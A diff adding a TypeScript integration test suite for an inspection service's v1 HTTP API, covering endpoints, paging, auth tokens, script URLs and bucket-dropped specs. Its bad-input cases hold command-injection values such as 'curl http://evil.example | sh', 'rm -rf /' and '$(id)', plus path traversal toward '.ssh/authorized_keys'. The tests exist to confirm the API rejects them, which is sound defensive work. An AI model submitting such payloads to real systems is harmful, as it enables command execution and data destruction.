@@ -1,0 +1,596 @@
+/**
+ * Every v1 endpoint over real HTTP on started stacks: answers and `parameters` echo, paging,
+ * status before and after the build, 404s, a matrix of bad input (4xx with every problem, nothing
+ * stored, nothing queued), the API token, script URLs, and spec files dropped into the bucket.
+ */
+import { createServer, request, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { PutObjectCommand } from '@aws-sdk/client-s3';
+import { GetQueueAttributesCommand } from '@aws-sdk/client-sqs';
+import type { Context, SQSEvent } from 'aws-lambda';
+import { makeS3Client, makeSqsClient } from '../../functions/adapters/clients.js';
+import { validators } from '../../functions/core/validation.js';
+import { makeIngestHandler } from '../../functions/ingest/handler.js';
+import type { SqsHandler } from '../../functions/lib/sqs.js';
+import { startLocalStack, type LocalStack, type LocalStackOptions } from '../../local/stack.js';
+import { api, snapshot, tempDir, waitFor } from '../support/stack.js';
+
+const V1 = '/api/v1';
+const scriptless = (identifier: string) => ({ base: 'registry.fedoraproject.org/fedora:40', identifier });
+const context = { awsRequestId: 'replay', functionName: 'ingest', getRemainingTimeInMillis: () => 60_000 } as unknown as Context;
+const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
+
+/** A request with the path sent exactly as written (fetch would resolve `..` and `%2e%2e`). */
+function raw(base: string, method: string, path: string, body?: string | Buffer, headers: Record<string, string> = {}): Promise<{ status: number; body: any; headers: Record<string, unknown> }> {
+  const url = new URL(base);
+  return new Promise((resolve, reject) => {
+    const req = request({ host: url.hostname, port: url.port, method, path, headers }, (res) => {
+      const chunks: Buffer[] = [];
+      res.on('data', (c: Buffer) => chunks.push(c));
+      res.on('end', () => {
+        const text = Buffer.concat(chunks).toString('utf8');
+        let parsed: unknown;
+        try {
+          parsed = JSON.parse(text);
+        } catch {
+          parsed = text;
+        }
+        resolve({ status: res.statusCode ?? 0, body: parsed, headers: res.headers });
+      });
+    });
+    req.on('error', reject);
+    if (body !== undefined) req.write(body);
+    req.end();
+  });
+}
+
+/** A stack that records build and ingest deliveries and can hold the builds of inspections whose id starts with a prefix. */
+interface Harnessed {
+  stack: LocalStack;
+  dir: { path: string; remove(): void };
+  builds: string[];
+  ingestEvents: SQSEvent[];
+  hold(idPrefix: string): void;
+  release(idPrefix: string): void;
+}
+
+async function startHarnessed(options: Partial<LocalStackOptions> = {}): Promise<Harnessed> {
+  const dir = tempDir('amun-api-');
+  const builds: string[] = [];
+  const ingestEvents: SQSEvent[] = [];
+  const held = new Map<string, { promise: Promise<void>; resolve: () => void }>();
+  const gate = async (id: string): Promise<void> => {
+    for (const [prefix, { promise }] of held) if (id.startsWith(prefix)) await promise;
+  };
+  const stack = await startLocalStack({
+    dataDir: dir.path,
+    port: 0,
+    executor: 'process',
+    waitTimeSeconds: 1,
+    ...options,
+    wrapHandler: (name, handler): SqsHandler => async (event, ctx) => {
+      if (name === 'ingest') ingestEvents.push(structuredClone(event));
+      if (name === 'build') {
+        for (const record of event.Records) {
+          const id = (JSON.parse(record.body) as { inspection_id: string }).inspection_id;
+          builds.push(id);
+          await gate(id);
+        }
+      }
+      return handler(event, ctx);
+    },
+  });
+  return {
+    stack,
+    dir,
+    builds,
+    ingestEvents,
+    hold: (prefix) => {
+      let resolve!: () => void;
+      const promise = new Promise<void>((r) => (resolve = r));
+      held.set(prefix, { promise, resolve });
+    },
+    release: (prefix) => held.get(prefix)?.resolve(),
+  };
+}
+
+/** The work queue as SQS reports it: visible, in flight and delayed messages. */
+async function workQueueDepth(stack: LocalStack): Promise<number> {
+  const sqs = makeSqsClient({ region: stack.config.region, endpoint: stack.storageEndpoint });
+  const { Attributes: a = {} } = await sqs.send(
+    new GetQueueAttributesCommand({ QueueUrl: stack.queueUrls.work, AttributeNames: ['ApproximateNumberOfMessages', 'ApproximateNumberOfMessagesNotVisible', 'ApproximateNumberOfMessagesDelayed'] }),
+  );
+  return Number(a.ApproximateNumberOfMessages ?? 0) + Number(a.ApproximateNumberOfMessagesNotVisible ?? 0) + Number(a.ApproximateNumberOfMessagesDelayed ?? 0);
+}
+
+/**
+ * Runs `act` and checks that it stored nothing and queued nothing: the bucket is byte-identical,
+ * the work queue (read with the SQS client right after the answer, and again once the stack is
+ * idle) is empty, no build was delivered, and the app's queue sent nothing.
+ */
+async function expectNoSideEffects<T>(h: Harnessed, act: () => Promise<T>): Promise<T> {
+  await h.stack.idle();
+  const before = await snapshot(h.stack);
+  const sent = h.stack.app.queues.work.sent;
+  const builds = h.builds.length;
+  const out = await act();
+  expect(await workQueueDepth(h.stack)).toBe(0);
+  await h.stack.idle();
+  expect(await workQueueDepth(h.stack)).toBe(0);
+  expect(h.builds.length).toBe(builds);
+  expect(h.stack.app.queues.work.sent).toBe(sent);
+  const after = await snapshot(h.stack);
+  expect([...after.keys()]).toEqual([...before.keys()]);
+  expect(after).toEqual(before);
+  return out;
+}
+
+function expectErrorShape(body: unknown): void {
+  expect({ valid: validators.errorAnswer(body), errors: validators.errorAnswer.errors ?? null }).toEqual({ valid: true, errors: null });
+  const b = body as { error: string; parameters: object; problems: Array<{ path: string; message: string }> };
+  expect(typeof b.error).toBe('string');
+  expect(b.parameters).toEqual(expect.any(Object));
+  expect(b.problems.length).toBeGreaterThan(0);
+  for (const p of b.problems) expect(p).toEqual({ path: expect.any(String), message: expect.any(String) });
+}
+
+// ---------------------------------------------------------------------------------------------
+
+describe('the ten v1 endpoints', () => {
+  let h: Harnessed;
+  let id = '';
+  const script = ['import json, os', 'print(json.dumps({"item": os.environ.get("AMUN_ITEM"), "greeting": os.environ.get("GREETING")}))'].join('\n');
+  const spec = { base: 'registry.fedoraproject.org/fedora:40', identifier: 'API Test', batch_size: 2, script, environment: [{ name: 'GREETING', value: 'hi' }] };
+
+  beforeAll(async () => {
+    h = await startHarnessed();
+  });
+  afterAll(async () => {
+    await h?.stack.stop();
+    h?.dir.remove();
+  });
+
+  it('GET /version', async () => {
+    const r = await api(h.stack.apiUrl, 'GET', `${V1}/version`);
+    expect(r.status).toBe(200);
+    expect(r.body).toEqual({ version: h.stack.config.serviceVersion, service_version: h.stack.config.serviceVersion });
+  });
+
+  it('POST /_debug/generate-dockerfile renders without storing or queueing anything', async () => {
+    const r = await expectNoSideEffects(h, () => api(h.stack.apiUrl, 'POST', `${V1}/_debug/generate-dockerfile`, spec));
+    expect(r.status).toBe(200);
+    expect(r.body.dockerfile).toMatch(/^FROM registry\.fedoraproject\.org\/fedora:40$/m);
+    expect(r.body.parameters).toMatchObject({ ...spec, package_manager: 'micropipenv', build: { requests: { cpu: '500m', memory: '256Mi' } }, run: { requests: { cpu: '500m', memory: '256Mi' } } });
+  });
+
+  it('POST /inspect answers 202 with the id and the specification with defaults filled in', async () => {
+    const r = await api(h.stack.apiUrl, 'POST', `${V1}/inspect`, spec);
+    expect(r.status).toBe(202);
+    id = r.body.inspection_id;
+    expect(id).toMatch(/^inspection-api-test-[0-9a-f]{8}$/);
+    expect(r.body.parameters).toEqual({
+      ...spec,
+      package_manager: 'micropipenv',
+      build: { requests: { cpu: '500m', memory: '256Mi' } },
+      run: { requests: { cpu: '500m', memory: '256Mi' } },
+      '@created': expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}$/),
+      '@amun_version': h.stack.config.serviceVersion,
+    });
+    const stored = await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${id}/specification`);
+    expect(stored.status).toBe(200);
+    expect(stored.body).toEqual({ specification: r.body.parameters, parameters: { inspection_id: id } });
+  });
+
+  it('GET /inspect lists it', async () => {
+    const r = await api(h.stack.apiUrl, 'GET', `${V1}/inspect`);
+    expect(r.status).toBe(200);
+    expect(r.body.inspections).toContain(id);
+    expect(r.body.parameters).toEqual({ page: 1, limit: 100, next_page_token: null });
+  });
+
+  it('GET status, batch-size, build log, result and item log once the inspection ran', async () => {
+    const status = await waitFor('the inspection to finish', async () => {
+      const s = await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${id}/status`);
+      return s.body?.status?.workflow?.finished ? s.body : undefined;
+    });
+    expect(status.parameters).toEqual({ inspection_id: id });
+    expect(status.status).toMatchObject({ build: { state: 'terminated', exit_code: 0, reason: null }, workflow: { state: 'succeeded', items_done: 2, items_failed: 0 }, data_stored: true });
+
+    expect((await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${id}/job/batch-size`)).body).toEqual({ batch_size: 2, parameters: { inspection_id: id } });
+
+    const log = await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${id}/build/log`);
+    expect(log.status).toBe(200);
+    expect(log.body.parameters).toEqual({ inspection_id: id });
+    expect(log.body.log).toContain('process executor');
+
+    for (const item of [0, 1]) {
+      const result = await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${id}/job/${item}/result`);
+      expect(result.status).toBe(200);
+      expect(result.body.parameters).toEqual({ inspection_id: id, item: String(item) });
+      expect(result.body.result).toMatchObject({ exit_code: 0, item, executor: 'process', stdout: { item: String(item), greeting: 'hi' } });
+      const itemLog = await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${id}/job/${item}/log`);
+      expect(itemLog.status).toBe(200);
+      expect(itemLog.body.parameters).toEqual({ inspection_id: id, item: String(item) });
+      expect(itemLog.body.log).toContain(`"item": "${item}"`);
+    }
+  });
+
+  it('echoes query parameters with the path parameters, on answers and on errors', async () => {
+    const ok = await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${id}/job/1/result?verbose=yes`);
+    expect(ok.body.parameters).toEqual({ verbose: 'yes', inspection_id: id, item: '1' });
+    const missing = await api(h.stack.apiUrl, 'GET', `${V1}/inspect/inspection-nothing-00000000/status?verbose=yes`);
+    expect(missing.status).toBe(404);
+    expect(missing.body.parameters).toEqual({ verbose: 'yes', inspection_id: 'inspection-nothing-00000000' });
+  });
+
+  it('answers 404 with the error shape for unknown ids, items outside the batch and unknown endpoints', async () => {
+    const unknown = 'inspection-nothing-00000000';
+    for (const path of [
+      `/inspect/${unknown}/status`,
+      `/inspect/${unknown}/specification`,
+      `/inspect/${unknown}/job/batch-size`,
+      `/inspect/${unknown}/build/log`,
+      `/inspect/${unknown}/job/0/result`,
+      `/inspect/${unknown}/job/0/log`,
+      `/inspect/${id}/job/2/result`,
+      `/inspect/${id}/job/2/log`,
+      `/inspect/${id}/job/999999/result`,
+      '/nothing-here',
+      `/inspect/${id}`,
+    ]) {
+      const r = await api(h.stack.apiUrl, 'GET', `${V1}${path}`);
+      expect({ path, status: r.status }).toEqual({ path, status: 404 });
+      expect(validators.errorAnswer(r.body)).toBe(true);
+    }
+    const del = await api(h.stack.apiUrl, 'DELETE', `${V1}/inspect/${id}/status`);
+    expect(del.status).toBe(404);
+    expect(validators.errorAnswer(del.body)).toBe(true);
+  });
+
+  it('reports status from pending to terminated, and 404 for the build log and results before they exist', async () => {
+    // The build is held from before the submit, so "before" is deterministic.
+    h.hold('inspection-held-');
+    let held = '';
+    try {
+      const submitted = await api(h.stack.apiUrl, 'POST', `${V1}/inspect`, { ...scriptless('held'), batch_size: 1 });
+      expect(submitted.status).toBe(202);
+      held = submitted.body.inspection_id as string;
+      expect(held).toMatch(/^inspection-held-/);
+      // The build message is delivered (and waits at the gate) or still queued: either way, nothing ran.
+      await sleep(300);
+      const before = await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${held}/status`);
+      expect(before.status).toBe(200);
+      expect(before.body.status).toEqual({
+        build: { container: null, exit_code: null, finished_at: null, reason: null, started_at: null, state: 'pending' },
+        workflow: expect.objectContaining({ state: 'pending', finished: false }),
+        data_stored: false,
+      });
+      expect((await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${held}/build/log`)).status).toBe(404);
+      expect((await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${held}/job/0/result`)).status).toBe(404);
+      expect((await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${held}/job/0/log`)).status).toBe(404);
+      expect((await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${held}/job/batch-size`)).body.batch_size).toBe(1);
+    } finally {
+      h.release('inspection-held-');
+    }
+    const after = await waitFor('the held build to finish', async () => {
+      const s = await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${held}/status`);
+      return s.body?.status?.workflow?.finished ? s.body.status : undefined;
+    });
+    expect(after.build).toMatchObject({ state: 'terminated', exit_code: 0, reason: null, started_at: expect.any(String), finished_at: expect.any(String) });
+    expect(after.workflow).toMatchObject({ state: 'succeeded', finished: true });
+    expect(after.data_stored).toBe(false);
+    expect(h.builds.filter((b) => b === held)).toEqual([held]);
+  });
+
+  describe('spec files dropped into the bucket', () => {
+    const put = (key: string, body: string) =>
+      makeS3Client({ region: h.stack.config.region, endpoint: h.stack.storageEndpoint }).send(new PutObjectCommand({ Bucket: h.stack.config.bucket, Key: key, Body: body, ContentType: 'application/json' }));
+    const inspectionKeys = async () => [...(await snapshot(h.stack, `${h.stack.config.storePrefix}`)).keys()];
+
+    it('a valid drop becomes an inspection, named in <name>.consumed.json; replaying its event creates no second one', async () => {
+      await put('specs/x y.json', JSON.stringify(scriptless('dropped')));
+      const marker = await waitFor('the consumed marker', async () => {
+        const raw = await h.stack.app.store.get('specs/x y.consumed.json');
+        return raw ? (JSON.parse(raw.toString('utf8')) as { key: string; inspection_id: string }) : undefined;
+      });
+      expect(marker.key).toBe('specs/x y.json');
+      expect(marker.inspection_id).toMatch(/^inspection-dropped-[0-9a-f]{8}$/);
+      const spec = await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${marker.inspection_id}/specification`);
+      expect(spec.status).toBe(200);
+      expect(spec.body.specification).toMatchObject(scriptless('dropped'));
+      expect((await api(h.stack.apiUrl, 'GET', `${V1}/inspect`)).body.inspections).toContain(marker.inspection_id);
+
+      // The same S3 event, delivered again (SQS is at-least-once): one inspection, same bytes.
+      const delivered = h.ingestEvents.filter((e) => e.Records.some((r) => r.body.includes('"key":"specs/x+y.json"')));
+      expect(delivered.length).toBe(1);
+      await h.stack.idle();
+      const before = await snapshot(h.stack);
+      const ingest = makeIngestHandler(h.stack.app);
+      for (const round of [1, 2]) expect({ round, answer: await ingest(structuredClone(delivered[0]!), context) }).toEqual({ round, answer: { batchItemFailures: [] } });
+      await h.stack.idle();
+      expect(await snapshot(h.stack)).toEqual(before);
+      const index = [...before.keys()].filter((k) => k.startsWith(`${h.stack.app.layout.indexPrefix}/`) && k.endsWith(`_${marker.inspection_id}`));
+      expect(index).toHaveLength(1);
+    });
+
+    it('an invalid drop gets <name>.error.json with every problem, and no inspection', async () => {
+      await h.stack.idle();
+      const before = await inspectionKeys();
+      const sent = h.stack.app.queues.work.sent;
+      await put('specs/bad drop.json', JSON.stringify({ base: 'fedora:39\nRUN id', colour: 'blue', batch_size: 0, environment: [{ name: 'A B', value: 'x' }] }));
+      const error = await waitFor('the error marker', async () => {
+        const raw = await h.stack.app.store.get('specs/bad drop.error.json');
+        return raw ? (JSON.parse(raw.toString('utf8')) as { key: string; problems: Array<{ path: string; message: string }> }) : undefined;
+      });
+      expect(error.key).toBe('specs/bad drop.json');
+      expect(error.problems.map((p) => p.path).sort()).toEqual(['/base', '/batch_size', '/colour', '/environment/0/name']);
+      await h.stack.idle();
+      expect(await inspectionKeys()).toEqual(before);
+      expect(h.stack.app.queues.work.sent).toBe(sent);
+      expect(await h.stack.app.store.exists('specs/bad drop.consumed.json')).toBe(false);
+    });
+
+    it('a drop that is not JSON (or YAML) gets an error marker too', async () => {
+      await put('specs/garbage.json', '{"base": [unclosed');
+      const error = await waitFor('the error marker', async () => {
+        const raw = await h.stack.app.store.get('specs/garbage.error.json');
+        return raw ? (JSON.parse(raw.toString('utf8')) as { problems: Array<{ path: string }> }) : undefined;
+      });
+      expect(error.problems).toEqual([{ path: '', message: expect.any(String) }]);
+    });
+  });
+});
+
+// ---------------------------------------------------------------------------------------------
+
+describe('listing and bad input', () => {
+  let h: Harnessed;
+  const ids: string[] = [];
+
+  beforeAll(async () => {
+    h = await startHarnessed();
+  });
+  afterAll(async () => {
+    await h?.stack.stop();
+    h?.dir.remove();
+  });
+
+  it('lists newest first, pages of 3 are 3/3/1 without overlap, and page_token gives the same next page', async () => {
+    for (let i = 0; i < 7; i++) {
+      const r = await api(h.stack.apiUrl, 'POST', `${V1}/inspect`, scriptless(`page ${i}`));
+      expect(r.status).toBe(202);
+      ids.push(r.body.inspection_id);
+      await sleep(2); // distinct creation milliseconds, so "newest first" is one order
+    }
+    const newestFirst = [...ids].reverse();
+    const all = await api(h.stack.apiUrl, 'GET', `${V1}/inspect`);
+    expect(all.body.inspections).toEqual(newestFirst);
+
+    const pages = [];
+    for (const page of [1, 2, 3, 4]) {
+      const r = await api(h.stack.apiUrl, 'GET', `${V1}/inspect?page=${page}&limit=3`);
+      expect(r.status).toBe(200);
+      expect(r.body.parameters).toMatchObject({ page, limit: 3 });
+      pages.push(r.body);
+    }
+    expect(pages.map((p) => p.inspections.length)).toEqual([3, 3, 1, 0]);
+    expect(pages.flatMap((p) => p.inspections)).toEqual(newestFirst);
+    expect(new Set(pages.flatMap((p) => p.inspections)).size).toBe(7);
+    expect(pages[0].parameters.next_page_token).toEqual(expect.any(String));
+    expect(pages[1].parameters.next_page_token).toEqual(expect.any(String));
+    expect(pages[2].parameters.next_page_token).toBeNull();
+
+    // Following the tokens walks the same pages.
+    let token: string | null = pages[0].parameters.next_page_token;
+    const followed = [pages[0].inspections];
+    while (token) {
+      const r = await api(h.stack.apiUrl, 'GET', `${V1}/inspect?limit=3&page_token=${encodeURIComponent(token)}`);
+      expect(r.status).toBe(200);
+      followed.push(r.body.inspections);
+      token = r.body.parameters.next_page_token;
+    }
+    expect(followed).toEqual(pages.slice(0, 3).map((p) => p.inspections));
+
+    // A limit beyond the total, and the cap.
+    expect((await api(h.stack.apiUrl, 'GET', `${V1}/inspect?limit=50`)).body.inspections).toEqual(newestFirst);
+    expect((await api(h.stack.apiUrl, 'GET', `${V1}/inspect?limit=5000`)).body.parameters.limit).toBe(1000);
+  });
+
+  const spec = scriptless('bad input');
+  const hostile: Array<[string, unknown, string]> = [
+    ['newline in base', { ...spec, base: 'fedora:39\nRUN curl http://evil.example | sh' }, '/base'],
+    ['shell in base', { ...spec, base: 'fedora:39; rm -rf /' }, '/base'],
+    ['substitution in base', { ...spec, base: '$(id)' }, '/base'],
+    ['quote in base', { ...spec, base: 'fedora:39" AS x' }, '/base'],
+    ['empty base', { ...spec, base: '' }, '/base'],
+    ['newline in a package', { ...spec, packages: ['vim\nRUN rm -rf /'] }, '/packages/0'],
+    ['shell in a package', { ...spec, packages: ['vim && curl evil.example'] }, '/packages/0'],
+    ['option as a package', { ...spec, packages: ['--nogpgcheck'] }, '/packages/0'],
+    ['shell in a python package', { ...spec, python_packages: ['numpy; rm -rf /'] }, '/python_packages/0'],
+    ['option as a python package', { ...spec, python_packages: ['--index-url=http://evil.example/'] }, '/python_packages/0'],
+    ['space in an env name', { ...spec, environment: [{ name: 'A B', value: 'x' }] }, '/environment/0/name'],
+    ['= in an env name', { ...spec, environment: [{ name: 'A=B', value: 'x' }] }, '/environment/0/name'],
+    ['shell in an env name', { ...spec, environment: [{ name: 'PATH;id', value: 'x' }] }, '/environment/0/name'],
+    ['newline in an env value', { ...spec, environment: [{ name: 'A', value: 'x\nRUN id' }] }, '/environment/0/value'],
+    ['.. in a file path', { ...spec, files: [{ path: '/etc/../root/.ssh/authorized_keys', content: 'x' }] }, '/files/0/path'],
+    ['relative file path', { ...spec, files: [{ path: 'etc/passwd', content: 'x' }] }, '/files/0/path'],
+    ['control character in identifier', { ...spec, identifier: 'a\u0000b' }, '/identifier'],
+    ['shell in a cpu request', { ...spec, build: { requests: { cpu: '1; rm -rf /' } } }, '/build/requests/cpu'],
+    ['newline in a GPU product', { ...spec, run: { requests: { gpu: { count: 1, product: 'A100\nRUN id' } } } }, '/run/requests/gpu/product'],
+  ];
+
+  const cases: Array<{ name: string; method: string; path: string; body?: string | Buffer; headers?: Record<string, string>; status: number; paths?: string[] }> = [
+    { name: 'invalid JSON', method: 'POST', path: '/inspect', body: '{"base": "fedora:39",', status: 400, paths: [''] },
+    { name: 'empty body', method: 'POST', path: '/inspect', status: 400, paths: [''] },
+    { name: 'blank body', method: 'POST', path: '/inspect', body: '  \n', status: 400, paths: [''] },
+    { name: 'a JSON array', method: 'POST', path: '/inspect', body: JSON.stringify([spec]), status: 400, paths: [''] },
+    { name: 'JSON null', method: 'POST', path: '/inspect', body: 'null', status: 400, paths: [''] },
+    { name: 'a JSON string', method: 'POST', path: '/inspect', body: '"fedora:39"', status: 400, paths: [''] },
+    {
+      name: 'wrong types',
+      method: 'POST',
+      path: '/inspect',
+      body: JSON.stringify({ base: 42, batch_size: '3', packages: 'vim', send_messages: 'yes', environment: { GREETING: 'x' } }),
+      status: 400,
+      paths: ['/base', '/batch_size', '/packages', '/send_messages', '/environment'],
+    },
+    { name: 'batch_size 0', method: 'POST', path: '/inspect', body: JSON.stringify({ ...spec, batch_size: 0 }), status: 400, paths: ['/batch_size'] },
+    { name: 'unknown field', method: 'POST', path: '/inspect', body: JSON.stringify({ ...spec, colour: 'blue' }), status: 400, paths: ['/colour'] },
+    { name: 'unknown nested field', method: 'POST', path: '/inspect', body: JSON.stringify({ ...spec, run: { requests: { cpu: '1', gpus: 2 } } }), status: 400, paths: ['/run/requests/gpus'] },
+    { name: 'unknown field (generate-dockerfile)', method: 'POST', path: '/_debug/generate-dockerfile', body: JSON.stringify({ ...spec, colour: 'blue' }), status: 400, paths: ['/colour'] },
+    ...hostile.map(([name, body, path]) => ({ name: `hostile: ${name}`, method: 'POST', path: '/inspect', body: JSON.stringify(body), status: 400, paths: [path] })),
+    ...hostile.slice(0, 3).map(([name, body, path]) => ({ name: `hostile (generate-dockerfile): ${name}`, method: 'POST', path: '/_debug/generate-dockerfile', body: JSON.stringify(body), status: 400, paths: [path] })),
+    { name: 'body over 1 MiB', method: 'POST', path: '/inspect', body: JSON.stringify({ ...spec, script: 'x'.repeat(1024 * 1024 + 10) }), status: 413 },
+    { name: 'id ..', method: 'GET', path: '/inspect/../status', status: 400, paths: ['/inspection_id'] },
+    { name: 'id %2e%2e', method: 'GET', path: '/inspect/%2e%2e/specification', status: 400, paths: ['/inspection_id'] },
+    { name: 'id with ..', method: 'GET', path: '/inspect/inspection-a..b/status', status: 400, paths: ['/inspection_id'] },
+    { name: 'id with %2F', method: 'GET', path: '/inspect/inspection-a%2F..%2F..%2Fsecret/status', status: 404 },
+    { name: 'id with /', method: 'GET', path: '/inspect/inspection-a/../../specification', status: 404 },
+    { name: 'id ..%2F', method: 'GET', path: '/inspect/..%2Finspections-index/build/log', status: 404 },
+    { name: 'uppercase id', method: 'GET', path: '/inspect/INSPECTION-ABC-12345678/status', status: 400, paths: ['/inspection_id'] },
+    { name: 'id with NUL', method: 'GET', path: '/inspect/inspection-a%00/status', status: 400, paths: ['/inspection_id'] },
+    { name: 'id over 63 characters', method: 'GET', path: `/inspect/inspection-${'a'.repeat(60)}/status`, status: 400, paths: ['/inspection_id'] },
+    { name: 'negative item', method: 'GET', path: '/inspect/{id}/job/-1/result', status: 400, paths: ['/item'] },
+    { name: 'item not a number', method: 'GET', path: '/inspect/{id}/job/abc/log', status: 400, paths: ['/item'] },
+    { name: 'fractional item', method: 'GET', path: '/inspect/{id}/job/1.5/result', status: 400, paths: ['/item'] },
+    { name: 'item with leading zero', method: 'GET', path: '/inspect/{id}/job/01/result', status: 400, paths: ['/item'] },
+    { name: 'page=0', method: 'GET', path: '/inspect?page=0', status: 400, paths: ['/page'] },
+    { name: 'page=-1', method: 'GET', path: '/inspect?page=-1', status: 400, paths: ['/page'] },
+    { name: 'page=abc', method: 'GET', path: '/inspect?page=abc', status: 400, paths: ['/page'] },
+    { name: 'limit=abc', method: 'GET', path: '/inspect?limit=abc', status: 400, paths: ['/limit'] },
+    { name: 'limit=0', method: 'GET', path: '/inspect?limit=0', status: 400, paths: ['/limit'] },
+  ];
+
+  it.each(cases.map((c) => [c.name, c] as const))('bad input: %s → 4xx with every problem, nothing stored, nothing queued', async (_name, c) => {
+    const path = `${V1}${c.path.replace('{id}', ids[0] ?? 'inspection-missing-00000000')}`;
+    const headers: Record<string, string> = c.body !== undefined ? { 'content-type': 'application/json' } : {};
+    const r = await expectNoSideEffects(h, () => raw(h.stack.apiUrl, c.method, path, c.body, headers));
+    expect({ status: r.status }).toEqual({ status: c.status });
+    expect(r.status).toBeLessThan(500);
+    expectErrorShape(r.body);
+    // Every problem is reported with its path (one field may break several keywords: one path, twice).
+    if (c.paths) expect([...new Set((r.body.problems as Array<{ path: string }>).map((p) => p.path))].sort()).toEqual([...c.paths].sort());
+  });
+
+  it('bad input: a body over 1 MiB sent in chunks without a length → 413, nothing stored', async () => {
+    const r = await expectNoSideEffects(
+      h,
+      () =>
+        new Promise<{ status: number; body: any }>((resolve, reject) => {
+          const url = new URL(h.stack.apiUrl);
+          const req = request({ host: url.hostname, port: url.port, method: 'POST', path: `${V1}/inspect`, headers: { 'content-type': 'application/json', 'transfer-encoding': 'chunked' } }, (res) => {
+            const chunks: Buffer[] = [];
+            res.on('data', (c: Buffer) => chunks.push(c));
+            res.on('end', () => resolve({ status: res.statusCode ?? 0, body: JSON.parse(Buffer.concat(chunks).toString('utf8')) }));
+          });
+          req.on('error', reject);
+          req.write(`{"base": "fedora:39", "script": "`);
+          const chunk = 'x'.repeat(64 * 1024);
+          for (let i = 0; i < 20; i++) req.write(chunk);
+          req.end('"}');
+        }),
+    );
+    expect(r.status).toBe(413);
+    expectErrorShape(r.body);
+  });
+});
+
+// ---------------------------------------------------------------------------------------------
+
+describe('script URLs', () => {
+  let server: Server;
+  let scriptUrl = '';
+  let fetched = 0;
+  const scriptText = 'import json\nprint(json.dumps({"from": "url"}))\n';
+
+  beforeAll(async () => {
+    server = createServer((req, res) => {
+      fetched++;
+      if (req.url === '/script.py') res.writeHead(200, { 'content-type': 'text/x-python' }).end(scriptText);
+      else res.writeHead(404).end();
+    });
+    await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
+    scriptUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}/script.py`;
+  });
+  afterAll(async () => {
+    await new Promise<void>((r) => server.close(() => r()));
+  });
+
+  it('are refused by default: http and a private address both answer 400 at /script, nothing stored or fetched', async () => {
+    const h = await startHarnessed();
+    try {
+      for (const url of [scriptUrl, scriptUrl.replace('http:', 'https:')]) {
+        const r = await expectNoSideEffects(h, () => api(h.stack.apiUrl, 'POST', `${V1}/inspect`, { ...scriptless('url'), script: url }));
+        expect({ url, status: r.status }).toEqual({ url, status: 400 });
+        expectErrorShape(r.body);
+        expect(r.body.problems.map((p: { path: string }) => p.path)).toEqual(['/script']);
+      }
+      expect(fetched).toBe(0);
+    } finally {
+      await h.stack.stop();
+      h.dir.remove();
+    }
+  });
+
+  it('are fetched once and stored when the stack allows http and private addresses', async () => {
+    const h = await startHarnessed({ allowScriptHttp: true, allowScriptPrivate: true });
+    try {
+      const r = await api(h.stack.apiUrl, 'POST', `${V1}/inspect`, { ...scriptless('url'), script: scriptUrl });
+      expect(r.status).toBe(202);
+      expect(fetched).toBe(1);
+      const spec = await api(h.stack.apiUrl, 'GET', `${V1}/inspect/${r.body.inspection_id}/specification`);
+      expect(spec.body.specification).toMatchObject({ script: scriptText, '@script_url': scriptUrl });
+      expect(r.body.parameters).toMatchObject({ script: scriptText, '@script_url': scriptUrl });
+      const missing = await expectNoSideEffects(h, () => api(h.stack.apiUrl, 'POST', `${V1}/inspect`, { ...scriptless('url'), script: scriptUrl.replace('script.py', 'nothing.py') }));
+      expect(missing.status).toBe(400);
+      expect(missing.body.problems.map((p: { path: string }) => p.path)).toEqual(['/script']);
+    } finally {
+      await h.stack.stop();
+      h.dir.remove();
+    }
+  });
+});
+
+// ---------------------------------------------------------------------------------------------
+
+describe('AMUN_API_TOKEN', () => {
+  let h: Harnessed;
+
+  beforeAll(async () => {
+    h = await startHarnessed({ apiToken: 's3cret' });
+  });
+  afterAll(async () => {
+    await h?.stack.stop();
+    h?.dir.remove();
+  });
+
+  it.each([
+    ['no Authorization header', {}],
+    ['a wrong token', { authorization: 'Bearer wrong' }],
+    ['the token without the scheme', { authorization: 's3cret' }],
+    ['a longer token', { authorization: 'Bearer s3cret2' }],
+  ] as Array<[string, Record<string, string>]>)('POST with %s → 401, nothing written or queued', async (_name, headers) => {
+    for (const path of ['/inspect', '/_debug/generate-dockerfile']) {
+      const r = await expectNoSideEffects(h, () => api(h.stack.apiUrl, 'POST', `${V1}${path}`, scriptless('token'), headers));
+      expect({ path, status: r.status }).toEqual({ path, status: 401 });
+      expectErrorShape(r.body);
+    }
+  });
+
+  it('POST with the right token → 202; GETs stay open', async () => {
+    const r = await api(h.stack.apiUrl, 'POST', `${V1}/inspect`, scriptless('token'), { authorization: 'Bearer s3cret' });
+    expect(r.status).toBe(202);
+    const id = r.body.inspection_id as string;
+    expect((await api(h.stack.apiUrl, 'POST', `${V1}/_debug/generate-dockerfile`, scriptless('token'), { authorization: 'Bearer s3cret' })).status).toBe(200);
+    for (const path of ['/version', '/inspect', `/inspect/${id}/status`, `/inspect/${id}/specification`, `/inspect/${id}/job/batch-size`, '/openapi.json']) {
+      const g = await api(h.stack.apiUrl, 'GET', `${V1}${path}`);
+      expect({ path, status: g.status }).toEqual({ path, status: 200 });
+    }
+  });
+
+  it('asks for a Bearer token in WWW-Authenticate', async () => {
+    const r = await raw(h.stack.apiUrl, 'POST', `${V1}/inspect`, JSON.stringify(scriptless('token')), { 'content-type': 'application/json' });
+    expect(r.status).toBe(401);
+    expect(r.headers['www-authenticate']).toBe('Bearer');
+  });
+});
